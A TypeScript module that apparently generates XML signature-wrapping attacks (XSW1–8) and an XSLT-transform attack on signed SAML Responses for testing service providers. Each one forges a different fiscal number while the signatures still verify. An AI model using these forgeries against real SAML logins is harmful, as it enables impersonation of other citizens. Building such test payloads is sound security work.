import { randomUUID } from 'node:crypto'
import { NS } from '../constants.js'
import { childElements, descendants, parseXml, serializeXml } from '../xml.js'

/**
 * The classic XML signature-wrapping attacks on a signed SAML Response
 * (XSW1-8, as in "On Breaking SAML: Be Whoever You Want to Be" and SAML
 * Raider), plus spid-sp-test's XSLT transform. Each starts from a Response
 * the IdP signed (Response and Assertion) and leaves the signatures as they
 * are: the signed content is still there and still verifies, while the
 * content an unwary SP would read is the attacker's.
 */

export const EVIL_FISCAL_NUMBER = 'TINIT-BNCGPP70A01F205X'

function parts(signedXml: string) {
  const document = parseXml(signedXml)
  const response = document.documentElement
  const assertion = childElements(response, NS.assertion, 'Assertion')[0]
  return {
    document,
    response,
    responseSignature: childElements(response, NS.ds, 'Signature')[0],
    assertion,
    assertionSignature: childElements(assertion, NS.ds, 'Signature')[0],
  }
}

const newId = () => `_${randomUUID()}`

/** The attacker's change: someone else's codice fiscale. */
function makeEvil(element: Element) {
  for (const attribute of descendants(element, NS.assertion, 'Attribute')) {
    if (attribute.getAttribute('Name') !== 'fiscalNumber') continue
    const value = childElements(attribute, NS.assertion, 'AttributeValue')[0]
    value.textContent = EVIL_FISCAL_NUMBER
  }
}

function withoutSignature(element: Element) {
  const copy = element.cloneNode(true) as Element
  for (const signature of childElements(copy, NS.ds, 'Signature')) copy.removeChild(signature)
  return copy
}

export type WrappingAttack =
  'xsw1' | 'xsw2' | 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8' | 'xslt'

export const WRAPPING_ATTACKS: Record<WrappingAttack, (signedXml: string) => string> = {
  /** the signed Response, copied inside its own Signature; the outer one evil, with a new ID */
  xsw1(signedXml) {
    const { document, response, responseSignature } = parts(signedXml)
    responseSignature.appendChild(withoutSignature(response))
    response.setAttribute('ID', newId())
    makeEvil(response)
    return serializeXml(document)
  },
  /** as xsw1, the signed copy detached before the Signature */
  xsw2(signedXml) {
    const { document, response, responseSignature } = parts(signedXml)
    response.insertBefore(withoutSignature(response), responseSignature)
    response.setAttribute('ID', newId())
    makeEvil(response)
    return serializeXml(document)
  },
  /** an evil Assertion (new ID, unsigned) before the signed one */
  xsw3(signedXml) {
    const { document, response, assertion } = parts(signedXml)
    const evil = withoutSignature(assertion)
    evil.setAttribute('ID', newId())
    makeEvil(evil)
    response.insertBefore(evil, assertion)
    return serializeXml(document)
  },
  /** an evil Assertion wrapping the signed one */
  xsw4(signedXml) {
    const { document, response, assertion } = parts(signedXml)
    const evil = withoutSignature(assertion)
    evil.setAttribute('ID', newId())
    makeEvil(evil)
    response.replaceChild(evil, assertion)
    evil.appendChild(assertion)
    return serializeXml(document)
  },
  /** the signed Assertion made evil under a new ID; an unsigned copy of the original at the end */
  xsw5(signedXml) {
    const { document, response, assertion } = parts(signedXml)
    const original = withoutSignature(assertion)
    assertion.setAttribute('ID', newId())
    makeEvil(assertion)
    response.appendChild(original)
    return serializeXml(document)
  },
  /** as xsw5, the copy of the original inside the evil Assertion's Signature */
  xsw6(signedXml) {
    const { document, assertion, assertionSignature } = parts(signedXml)
    const original = withoutSignature(assertion)
    assertion.setAttribute('ID', newId())
    makeEvil(assertion)
    assertionSignature.appendChild(original)
    return serializeXml(document)
  },
  /** the signed Assertion hidden in an Extensions element; an evil copy, same ID, in its place */
  xsw7(signedXml) {
    const { document, response, assertion } = parts(signedXml)
    const evil = withoutSignature(assertion)
    makeEvil(evil)
    const extensions = document.createElementNS(NS.protocol, 'samlp:Extensions')
    response.replaceChild(evil, assertion)
    extensions.appendChild(assertion)
    response.insertBefore(extensions, childElements(response, NS.protocol, 'Status')[0])
    return serializeXml(document)
  },
  /** the evil Assertion keeps the Signature; the original, unsigned, in a ds:Object inside it */
  xsw8(signedXml) {
    const { document, assertion, assertionSignature } = parts(signedXml)
    const original = withoutSignature(assertion)
    const object = document.createElementNS(NS.ds, 'ds:Object')
    object.appendChild(original)
    assertionSignature.appendChild(object)
    makeEvil(assertion)
    return serializeXml(document)
  },
  /** spid-sp-test's XSLT case: a stylesheet among the Response signature's transforms */
  xslt(signedXml) {
    const { document, responseSignature } = parts(signedXml)
    const transforms = descendants(responseSignature, NS.ds, 'Transforms')[0]
    const transform = document.createElementNS(NS.ds, 'ds:Transform')
    const xslNs = 'http://www.w3.org/1999/XSL/Transform'
    const stylesheet = document.createElementNS(xslNs, 'xsl:stylesheet')
    const template = document.createElementNS(xslNs, 'xsl:template')
    template.setAttribute('match', 'doc')
    const value = document.createElementNS(xslNs, 'xsl:value-of')
    value.setAttribute('select', "unparsed-text('http://localhost:19000/#!/auth')")
    template.appendChild(value)
    stylesheet.appendChild(template)
    transform.appendChild(stylesheet)
    transforms.insertBefore(transform, transforms.firstChild)
    return serializeXml(document)
  },
}
